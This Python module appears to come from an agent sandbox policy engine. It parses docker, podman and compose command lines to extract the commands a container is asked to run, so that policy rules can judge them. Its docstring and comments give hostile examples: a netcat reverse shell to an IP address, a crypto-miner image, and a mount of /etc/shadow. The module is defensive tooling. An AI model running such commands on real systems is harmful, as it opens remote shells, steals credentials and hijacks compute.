"""What a container client runs: ``docker run IMAGE CMD`` is ``CMD`` (or the image's own
program), ``docker exec CTR CMD`` and ``docker compose run|exec SERVICE CMD`` are ``CMD``.

No corral tier gives a sandbox a container engine, so a container client's own effect
stays inside it; what it *asks* an engine to run is still the agent's intent, decided as
that command (a wrapper's inner command, :func:`corral.policy.engine._unwrap`):
``docker run alpine nc -e /bin/sh 198.51.100.7 4444`` is decided as the ``nc`` line,
``docker run -d metal3d/xmrig`` as ``xmrig``.

The views are a reading of the command line, not of the image: an image's entrypoint is
not known here, so the image's last name (``metal3d/xmrig:latest`` -> ``xmrig``) is one
view (it decides only where a rule names it) and the words after the image another.
"""

from __future__ import annotations

from typing import Final

from .options import skip_options

CLIENTS: Final = frozenset({"docker", "podman", "nerdctl", "docker-compose", "podman-compose"})

#: the client's global options that take a value (before the subcommand)
_GLOBAL_VALUE: Final = frozenset(
    {"-H", "--host", "-c", "--context", "--config", "-l", "--log-level", "--tlscacert",
     "--tlscert", "--tlskey", "--url", "--connection", "--identity", "--root", "--runroot",
     "--storage-driver", "--cgroup-manager", "--namespace", "-n", "--address", "-a",
     "--profile", "-f", "--file", "-p", "--project-name", "--project-directory",
     "--env-file", "--ansi", "--progress", "--parallel"}
)  # fmt: skip
#: ``run``/``create`` options that take a value (``--opt=value`` always carries its own)
_RUN_VALUE: Final = frozenset(
    {"-a", "--attach", "--add-host", "--annotation", "--blkio-weight", "--cap-add",
     "--cap-drop", "--cgroup-parent", "--cgroupns", "--cidfile", "-c", "--cpu-shares",
     "--cpus", "--cpuset-cpus", "--cpuset-mems", "--detach-keys", "--device",
     "--device-cgroup-rule", "--dns", "--dns-option", "--dns-search", "--domainname",
     "--entrypoint", "-e", "--env", "--env-file", "--expose", "--gpus", "--group-add",
     "--health-cmd", "--health-interval", "--health-retries", "--health-start-period",
     "--health-timeout", "-h", "--hostname", "--ip", "--ip6", "--ipc", "--isolation",
     "--kernel-memory", "-l", "--label", "--label-file", "--link", "--log-driver", "--log-opt",
     "--mac-address", "-m", "--memory", "--memory-reservation", "--memory-swap",
     "--memory-swappiness", "--mount", "--name", "--network", "--net", "--network-alias",
     "--oom-score-adj", "--pid", "--pids-limit", "--platform", "-p", "--publish", "--pull",
     "--restart", "--runtime", "--security-opt", "--shm-size", "--stop-signal",
     "--stop-timeout", "--storage-opt", "--sysctl", "--tmpfs", "--ulimit", "-u", "--user",
     "--userns", "--uts", "-v", "--volume", "--volume-driver", "--volumes-from", "-w",
     "--workdir", "--arch", "--os", "--pod", "--secret", "--hooks-dir"}
)  # fmt: skip
#: ``exec`` options that take a value
_EXEC_VALUE: Final = frozenset(
    {"-e", "--env", "--env-file", "-u", "--user", "-w", "--workdir", "--detach-keys",
     "--index"}
)  # fmt: skip


def _option(args: list[str], name: str) -> str | None:
    """The value of option ``name`` among ``args`` (``--name v`` or ``--name=v``)."""
    for j, a in enumerate(args):
        if a == name and j + 1 < len(args):
            return args[j + 1]
        if a.startswith(name + "="):
            return a.split("=", 1)[1]
    return None


def image_program(image: str) -> str:
    """An image reference's last name: ``docker.io/metal3d/xmrig:6.21@sha256:..`` ->
    ``xmrig``."""
    name = image.split("@", 1)[0].rsplit("/", 1)[-1]
    return name.split(":", 1)[0]


def image_vendor(image: str) -> str:
    """An image reference's account or project (``traffmonetizer/cli_v2`` ->
    ``traffmonetizer``, ``ghcr.io/acme/api:1`` -> ``acme``; none for an official image)."""
    parts = image.split("@", 1)[0].split("/")
    if len(parts) > 1 and ("." in parts[0] or ":" in parts[0] or parts[0] == "localhost"):
        parts = parts[1:]  # a registry host first
    return parts[-2] if len(parts) >= 2 else ""


def container_commands(prog: str, args: list[str]) -> list[list[str]]:
    """The commands a container client asks an engine to run (none for other subcommands:
    ``build``, ``ps``, ``pull``, ...)."""
    return split(prog, args)[1]


def host_words(prog: str, args: list[str]) -> list[str]:
    """The words of a container client's command that name things on the sandbox's side
    (options, files, and each volume's or bind mount's source on its own: ``-v
    /etc/shadow:/x`` names ``/etc/shadow``): all but the image or container and what runs
    in it."""
    own = split(prog, args)[0]
    sources: list[str] = []
    for j, w in enumerate(own):
        value = None
        if w in ("-v", "--volume", "--mount") and j + 1 < len(own):
            value = own[j + 1]
        elif w.startswith(("--volume=", "--mount=")):
            value = w.split("=", 1)[1]
        elif w.startswith("-v") and len(w) > 2 and w[2] in "/~.$":
            value = w[2:]
        if value is None:
            continue
        for part in value.split(","):  # --mount type=bind,source=/x,target=/y
            key, eq, v = part.partition("=")
            if eq and key in ("source", "src"):
                sources.append(v)
            elif not eq:
                sources.append(part.split(":", 1)[0])
    return [*own, *sources]


def split(prog: str, args: list[str]) -> tuple[list[str], list[list[str]]]:
    """``args`` as (the client's own words, the commands it asks an engine to run)."""
    rest = skip_options(args, _GLOBAL_VALUE)
    if rest[:1] == ["compose"]:
        rest = skip_options(rest[1:], _GLOBAL_VALUE)
        prog = "docker-compose"
    elif rest[:1] in (["container"], ["pod"]):
        rest = rest[1:]
    if not rest:
        return args, []
    sub, opts_and_more = rest[0], rest[1:]
    if prog.endswith("-compose") or sub == "exec":
        if sub not in ("run", "exec"):
            return args, []
        operands = skip_options(opts_and_more, _RUN_VALUE if sub == "run" else _EXEC_VALUE)
        own = args[: len(args) - len(operands)]
        return own, ([operands[1:]] if len(operands) > 1 else [])
    if sub not in ("run", "create"):
        return args, []
    operands = skip_options(opts_and_more, _RUN_VALUE)
    own = args[: len(args) - len(operands)]
    if not operands:
        return own, []
    image, cmd = operands[0], operands[1:]
    entrypoint = _option(opts_and_more[: len(opts_and_more) - len(operands)], "--entrypoint")
    views: list[list[str]] = []
    if entrypoint:
        views.append([*entrypoint.split(), *cmd])
    else:
        program = image_program(image)
        if program:
            views.append([program, *cmd])
        vendor = image_vendor(image)
        if vendor and vendor != program:  # traffmonetizer/cli_v2: the vendor names it
            views.append([vendor])
    if cmd and not cmd[0].startswith("-"):
        views.append(cmd)
    return own, views
